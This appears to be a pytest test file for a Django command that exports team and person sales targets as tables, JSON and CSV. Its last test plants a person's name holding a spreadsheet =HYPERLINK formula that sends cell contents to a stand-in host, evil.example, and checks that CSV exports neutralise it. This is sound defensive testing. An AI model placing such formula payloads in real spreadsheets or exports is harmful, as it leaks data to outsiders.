"""``leadpact targets``: table, JSON, CSV; filters; explanations in English and Dutch; clear errors."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command


def run(*args: str) -> str:
    out = io.StringIO()
    call_command("targets", *args, stdout=out)
    return out.getvalue()


def test_json_lists_team_and_people_with_explanations(demo):
    data = json.loads(run("--period", "2026-10", "--format", "json"))
    assert (data["period"], data["version"]) == ("2026-10", demo.number)
    volume = [t for t in data["targets"] if t["commitment"] == "mql-volume"]
    team = next(t for t in volume if t["person"] == "")
    people = [t for t in volume if t["person"]]
    assert sum(int(p["target"]) for p in people) == int(team["target"])
    assert all(p["explanation"].splitlines()[0].startswith(p["person"]) for p in people)


def test_person_filter_and_dutch_explanation(demo):
    text = run("--period", "2026-10", "--person", "fleur.jansen@example.com", "--explain", "--lang", "nl")
    assert "Fleur Jansen" in text
    assert "Sanne de Vries" not in text
    assert "De afspraak vraagt" in text


def test_csv_has_one_row_per_subject(demo):
    rows = list(csv.DictReader(io.StringIO(run("--period", "2026-Q4", "--team", "sales", "--format", "csv"))))
    assert rows and {r["team"] for r in rows} == {"sales"}
    assert {"commitment", "person", "target", "exact", "explanation"} <= set(rows[0])


def test_table_shows_the_period_and_version(demo):
    text = run("--period", "2026-W41")
    assert "2026-W41" in text and "mql-volume" in text


def test_bad_period_is_a_one_line_error(demo):
    with pytest.raises(CommandError, match="--period"):
        run("--period", "October")


@pytest.mark.django_db
def test_no_organisation_says_what_to_do():
    with pytest.raises(CommandError, match="organisation"):
        run("--period", "2026-10")


def test_csv_exports_write_no_formula_a_spreadsheet_would_run(demo):
    """Issue 11 point 8: a name like =HYPERLINK(...) is written as text in targets and measure CSV."""
    import datetime as dt

    from leadpact.organization.models import Team
    from leadpact.organization.services import person_create

    evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    person_create(
        team=Team.objects.get(key="marketing"), name=evil, email="evil@example.com",
        start_date=dt.date(2026, 1, 1), actor="test",
    )  # fmt: skip
    targets = list(csv.DictReader(io.StringIO(run("--period", "2026-10", "--format", "csv"))))
    assert "'" + evil in {r["person"] for r in targets}
    assert not any(v.startswith(("=", "+", "@")) for r in targets for v in r.values())
    out = io.StringIO()
    call_command(
        "measure", "--period", "2026-10", "--now", "2026-10-14T12:00+02:00", "--format", "csv", stdout=out
    )
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert "'" + evil in {r["subject_name"] for r in rows}
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
    assert {"pace", "currency"} <= set(rows[0])
